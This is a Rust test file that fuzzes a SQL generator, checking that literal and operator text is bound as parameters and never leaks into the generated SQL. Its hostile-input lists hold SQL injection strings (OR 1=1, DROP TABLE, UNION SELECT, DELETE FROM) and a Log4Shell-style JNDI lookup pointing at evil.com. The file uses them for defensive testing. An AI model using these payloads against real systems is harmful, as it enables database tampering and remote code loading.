//! Randomized tests for SQL generation.
//!
//! Random entity sequences, malicious literal text and edge-case operator text
//! must never panic the generator or leak literals into the SQL string.

use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use schemalink::SqlGenerator;
use schemalink::models::{
    ColumnInfo, EntityTag, EntityType, LimitRequirement, QueryIntent, QueryParam, QueryType,
    RelationSource, RelationType, RelationshipKey, SchemaInfo, SortDirection, SortRequirement,
    TableInfo, TableRelationship, TableType,
};

const LITERAL_TYPES: &[EntityType] = &[
    EntityType::Value,
    EntityType::Number,
    EntityType::String,
    EntityType::Date,
    EntityType::Boolean,
];

const OPERATORS: &[&str] = &[
    "等于", "不等于", "大于", "小于等于", "包含", "不包含", "在", "不在", "为空", "不为空", ">=",
    "like", "is not null", "~", "ilike",
];

const QUERY_TYPES: &[QueryType] = &[
    QueryType::Select,
    QueryType::Count,
    QueryType::Sum,
    QueryType::Avg,
    QueryType::Max,
    QueryType::Min,
    QueryType::Group,
];

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate hostile literal text
fn edge_case_strings() -> Vec<String> {
    vec![
        "'OR 1=1--".to_string(),
        "'; DROP TABLE orders--".to_string(),
        "1' UNION SELECT NULL, NULL--".to_string(),
        "';SELECT * FROM information_schema.tables--".to_string(),
        "\u{0000}\u{FFFF}".to_string(),
        "üöÄ".repeat(50),
        "北京市朝阳区".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "a".repeat(10_000),
        random_string(100),
    ]
}

fn shop() -> SchemaInfo {
    let columns = |t: TableInfo, cols: &[(&str, &str)]| {
        cols.iter()
            .fold(t, |t, (name, ty)| t.with_column(ColumnInfo::new(*name, *ty, true)))
    };
    SchemaInfo::new("public", "shop")
        .with_table(columns(
            TableInfo::new("customers", TableType::Table),
            &[("id", "integer"), ("name", "text"), ("city", "text")],
        ))
        .with_table(columns(
            TableInfo::new("orders", TableType::Table),
            &[
                ("id", "integer"),
                ("customer_id", "integer"),
                ("status", "text"),
                ("total", "numeric"),
            ],
        ))
}

fn edges() -> Vec<TableRelationship> {
    vec![TableRelationship::new(
        RelationshipKey::single("orders", "customer_id", "customers", "id"),
        RelationType::ManyToOne,
        RelationSource::Metadata,
        1.0,
    )]
}

/// Literal text that cannot collide with schema names or SQL keywords.
fn marked_literal(rng: &mut impl Rng) -> String {
    format!("zq{}", random_string(rng.gen_range(8..24)))
}

fn random_entities(rng: &mut impl Rng, literals: &mut Vec<String>) -> Vec<EntityTag> {
    let tables = ["orders", "customers", "order", "CUSTOMERS", "ghosts"];
    let columns = ["status", "total", "name", "city", "orders.status", "missing"];
    let len = rng.gen_range(0..12);
    (0..len)
        .map(|_| {
            let confidence = rng.gen_range(-0.5..1.5);
            match rng.gen_range(0..5) {
                0 => EntityTag::new(EntityType::Table, *tables.choose(rng).unwrap(), confidence),
                1 => EntityTag::new(EntityType::Column, *columns.choose(rng).unwrap(), confidence),
                2 => EntityTag::new(EntityType::Operator, *OPERATORS.choose(rng).unwrap(), confidence),
                3 => EntityTag::new(
                    EntityType::Condition,
                    *["and", "或者", "且", "xor"].choose(rng).unwrap(),
                    confidence,
                ),
                _ => {
                    let text = marked_literal(rng);
                    literals.push(text.clone());
                    EntityTag::new(*LITERAL_TYPES.choose(rng).unwrap(), text, confidence)
                }
            }
        })
        .collect()
}

fn random_intent(rng: &mut impl Rng) -> QueryIntent {
    let mut intent = QueryIntent::new(*QUERY_TYPES.choose(rng).unwrap(), rng.gen_range(0.0..1.0));
    if rng.gen_bool(0.3) {
        let direction = if rng.gen_bool(0.5) {
            SortDirection::Asc
        } else {
            SortDirection::Desc
        };
        intent = intent.with_sort(SortRequirement::new(
            *["total", "name", "unknown; --"].choose(rng).unwrap(),
            direction,
        ));
    }
    if rng.gen_bool(0.2) {
        intent = intent.with_limit(LimitRequirement::top(rng.gen_range(1..500)));
    }
    intent
}

fn bound_strings(params: impl IntoIterator<Item = QueryParam>) -> Vec<String> {
    params
        .into_iter()
        .filter_map(|p| match p {
            QueryParam::String(s) => Some(s),
            _ => None,
        })
        .collect()
}

#[test]
fn fuzz_literals_never_reach_sql_text() {
    let mut rng = rand::thread_rng();
    let generator = SqlGenerator::new();
    let schema = shop();
    let edges = edges();

    for _ in 0..2_000 {
        let mut literals = Vec::new();
        let entities = random_entities(&mut rng, &mut literals);
        let intent = random_intent(&mut rng);
        let result = generator.generate(&entities, &intent, &schema, &edges);

        for literal in &literals {
            assert!(
                !result.sql.contains(literal.as_str()),
                "literal {literal} leaked into {}",
                result.sql
            );
            for alternative in &result.alternatives {
                assert!(!alternative.contains(literal.as_str()));
            }
        }

        assert_eq!(result.sql.matches('?').count(), result.parameters.len());
        assert!(result.parameters.keys().copied().eq(1..=result.parameters.len()));
        assert!((0.0..=1.0).contains(&result.confidence));
        if result.sql.is_empty() {
            assert_eq!(result.confidence, 0.0);
        }
    }
}

#[test]
fn fuzz_hostile_values_are_bound() {
    let generator = SqlGenerator::new();
    let schema = shop();

    for value in edge_case_strings() {
        for literal_type in [EntityType::String, EntityType::Value, EntityType::Date] {
            let entities = [
                EntityTag::new(EntityType::Table, "orders", 0.9),
                EntityTag::new(EntityType::Column, "status", 0.9),
                EntityTag::new(EntityType::Operator, "等于", 0.9),
                EntityTag::new(literal_type, value.clone(), 0.9),
            ];
            let result = generator.generate(
                &entities,
                &QueryIntent::new(QueryType::Select, 0.9),
                &schema,
                &edges(),
            );
            assert_eq!(result.sql, "SELECT * FROM orders WHERE orders.status = ?");
            assert_eq!(result.parameters.len(), 1);
            assert!(!result.sql.contains(value.as_str()));
            assert_eq!(bound_strings(result.parameters.into_values()), vec![value.clone()]);
        }
    }
}

#[test]
fn fuzz_hostile_operators_never_reach_sql_text() {
    let generator = SqlGenerator::new();
    let schema = shop();

    let hostile = [
        "'OR 1=1--",
        "'; DROP TABLE orders--",
        "1' UNION SELECT NULL, NULL--",
        "=; DELETE FROM orders",
        "= (SELECT 1)",
        "= 1",
        "-- ",
        "/* */",
        "\u{0000}",
        "北京",
        "${jndi:ldap://evil.com/a}",
    ];
    for operator in hostile {
        let entities = [
            EntityTag::new(EntityType::Table, "orders", 0.9),
            EntityTag::new(EntityType::Column, "status", 0.9),
            EntityTag::new(EntityType::Operator, operator, 0.9),
            EntityTag::new(EntityType::String, "paid", 0.9),
        ];
        let result = generator.generate(
            &entities,
            &QueryIntent::new(QueryType::Select, 0.9),
            &schema,
            &[],
        );
        assert!(!result.sql.contains(operator), "{}", result.sql);
        assert!(!result.sql.contains("WHERE"));
    }
}
